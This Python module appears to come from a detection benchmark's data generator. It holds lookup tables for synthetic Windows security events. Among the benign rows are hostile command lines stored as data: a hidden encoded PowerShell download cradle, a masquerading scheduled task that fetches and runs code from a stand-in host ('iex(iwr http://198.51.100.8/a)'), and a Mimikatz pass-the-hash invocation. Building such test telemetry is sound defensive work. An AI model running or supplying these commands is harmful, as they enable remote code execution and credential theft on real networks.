"""What the ``obj``, ``st`` and ``enc`` columns index: processes, shares, services, groups, status codes.

Each table has named indices (``SH_C``, ``WS_BADPW`` ...) that benign activity and attacks put in
the columns; the formatter looks the text up in the same tables. Append only: the indices are
positions.
"""

from __future__ import annotations

from bluebench.datagen.names import DOMAIN, DOMAIN_SID

APPS = (
    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\notepad.exe",
    "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
    "C:\\Windows\\System32\\mmc.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\ServerManager.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\PSEXESVC.exe",
    "C:\\Windows\\System32\\whoami.exe",
)
P_EXPLORER, P_MMC, P_PWSH, P_SRVMGR, P_CMD, P_PSEXESVC, P_WHOAMI = 5, 8, 9, 10, 11, 12, 13
SHARES = (
    ("\\\\*\\IPC$", ""),
    ("\\\\*\\Shared", "C:\\Shares\\Shared"),
    ("\\\\*\\Users", "C:\\Shares\\Users"),
    ("\\\\*\\Departments", "D:\\Departments"),
    ("\\\\*\\SYSVOL", "C:\\Windows\\SYSVOL\\sysvol"),
    ("\\\\*\\C$", "C:\\"),
    ("\\\\*\\ADMIN$", "C:\\Windows"),
)
SH_IPC, SH_SHARED, SH_USERS, SH_DEPT, SH_SYSVOL, SH_C, SH_ADMIN = range(7)
SERVICES = (  # 7045: name, image path, start type, account
    ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "demand start", "LocalSystem"),
    ("CcmExec", "C:\\Windows\\CCM\\CcmExec.exe", "auto start", "LocalSystem"),
    (
        "Sense",
        '"%ProgramFiles%\\Windows Defender Advanced Threat Protection\\MsSense.exe"',
        "auto start",
        "LocalSystem",
    ),
    (
        "gupdate",
        '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc',
        "auto start",
        "LocalSystem",
    ),
    (
        "HealthService",
        '"C:\\Program Files\\Microsoft Monitoring Agent\\Agent\\HealthService.exe"',
        "auto start",
        "LocalSystem",
    ),
    ("VeeamDeploySvc", "C:\\Windows\\Veeam\\Backup\\VeeamDeploymentSvc.exe", "auto start", "LocalSystem"),
)
SV_PSEXEC = 0
GROUPS = (  # name, domain, sid, event code when a member is added
    ("Administrators", "Builtin", "S-1-5-32-544", "4732"),
    ("Remote Desktop Users", "Builtin", "S-1-5-32-555", "4732"),
    ("Backup Operators", "Builtin", "S-1-5-32-551", "4732"),
    ("Domain Admins", DOMAIN, DOMAIN_SID + "-512", "4728"),
    ("VPN Users", DOMAIN, DOMAIN_SID + "-1120", "4728"),
    ("All Staff", DOMAIN, DOMAIN_SID + "-1121", "4728"),
    ("Sales", DOMAIN, DOMAIN_SID + "-1122", "4728"),
    ("Finance", DOMAIN, DOMAIN_SID + "-1123", "4728"),
)
G_ADMINS, G_RDP, G_BACKUP, G_DOMAIN_ADMINS, G_VPN, G_ALL = range(6)
WIN_STATUS = (  # 4625: Status, SubStatus, FailureReason
    ("0xc000006d", "0xc000006a", "%%2313"),
    ("0xc000006d", "0xc0000064", "%%2313"),
    ("0xc000006e", "0xc0000072", "%%2310"),
    ("0xc000006e", "0xc0000071", "%%2309"),
    ("0xc0000234", "0x0", "%%2307"),
)
WS_BADPW, WS_NOUSER, WS_DISABLED, WS_EXPIRED, WS_LOCKED = range(5)
KRB_STATUS = ("0x0", "0x6", "0x12", "0x18", "0x17")
KS_OK, KS_UNKNOWN, KS_REVOKED, KS_BADPW, KS_EXPIRED = range(5)
NTLM_STATUS = ("0x0", "0xc000006a", "0xc0000064", "0xc0000234", "0xc0000072")
NS_OK, NS_BADPW, NS_NOUSER = range(3)
ENC = ("0x12", "0x17", "0x11", "0xffffffff")
E_AES, E_RC4, E_AES128, E_NONE = range(4)
SUDO_CMDS = (
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u app --since today",
    "/usr/bin/docker ps",
    "/usr/bin/tail -n 200 /var/log/syslog",
    "/usr/sbin/service postgresql reload",
)
# Processes of remote execution, as (image, parent, command line): what the ``process_session``
# and ``process_in_session`` templates write. Attacks and management tools pick rows by index.
_SYS32 = "C:\\Windows\\System32\\"
_WMIPRVSE = _SYS32 + "wbem\\WmiPrvSE.exe"
_DCOMLAUNCH = _SYS32 + "svchost.exe"
TREES = (
    (
        _SYS32 + "cmd.exe",
        _WMIPRVSE,
        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1715003921.57 2>&1",
    ),
    (
        _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        _WMIPRVSE,
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (_SYS32 + "cmd.exe", _WMIPRVSE, "cmd.exe /c C:\\Windows\\CCM\\CcmEval.exe /collect"),
    (_SYS32 + "mmc.exe", _DCOMLAUNCH, "C:\\Windows\\system32\\mmc.exe -Embedding"),
    (
        _SYS32 + "cmd.exe",
        _SYS32 + "mmc.exe",
        "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\o.txt",
    ),
    (_SYS32 + "wsmprovhost.exe", _DCOMLAUNCH, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"),
    (_SYS32 + "whoami.exe", _SYS32 + "wsmprovhost.exe", '"C:\\Windows\\system32\\whoami.exe" /groups'),
    (
        _SYS32 + "net.exe",
        _SYS32 + "wsmprovhost.exe",
        '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain',
    ),
    (_SYS32 + "cmd.exe", "C:\\Users\\Public\\Music\\sync.exe", "cmd.exe"),
    (_SYS32 + "cmd.exe", _SYS32 + "lsass.exe", "C:\\Windows\\system32\\cmd.exe"),
    ("C:\\Users\\Public\\Music\\sync.exe", _SYS32 + "cmd.exe", "sync.exe privilege::debug sekurlsa::pth"),
    (
        _SYS32 + "cmd.exe",
        _SYS32 + "taskeng.exe",
        "cmd.exe /c copy \\\\FS01\\tools\\x.exe C:\\Windows\\Temp\\",
    ),
)
TR_WMIEXEC, TR_WMI_PS, TR_SCCM_EVAL, TR_MMC, TR_MMC_CHILD, TR_WSMPROV, TR_WSM_WHOAMI, TR_WSM_NET = range(8)
TR_PTH_CHILD, TR_LSASS_CHILD, TR_PTH_TOOL = 8, 9, 10
TASKS = (  # 4698/4699: name, action
    ("\\PatchAgent\\Install", '"C:\\Program Files\\PatchAgent\\agent.exe" /install /quiet'),
    (
        "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
        "cmd.exe /c C:\\Users\\Public\\upd.bat",
    ),
    ("\\qTzYrWkB", "cmd.exe /C whoami > C:\\Windows\\Temp\\qTzYrWkB.tmp 2>&1"),
    ("\\GoogleUpdateTaskMachineCore", "powershell.exe -w hidden -c iex(iwr http://198.51.100.8/a)"),
)
TK_DEPLOY, TK_MASQUERADE, TK_ATEXEC, TK_LOOKALIKE = range(4)
PIPES = (
    "spoolss",
    "efsrpc",
    "lsarpc",
    "netlogon",
    "samr",
    "winreg",
    "protected_storage",
    "svcctl",
    "srvsvc",
    "atsvc",
)
PI_SPOOLSS, PI_EFSRPC, PI_LSARPC, PI_NETLOGON, PI_SAMR, PI_WINREG, PI_PROTECTED, PI_SVCCTL, PI_SRVSVC = range(
    9
)
PI_ATSVC = 9
LOGON_PROCS = (  # a program that calls LsaLogonUser itself: logon process name, the program
    ("KioskLgn", "C:\\Program Files\\KioskPro\\kiosk.exe"),
    ("chrome", "C:\\Users\\Public\\Downloads\\chromepass.exe"),
    ("LogonUI2", "C:\\ProgramData\\svc\\lu.exe"),
)
LP_KIOSK, LP_CHROME, LP_ODD = range(3)
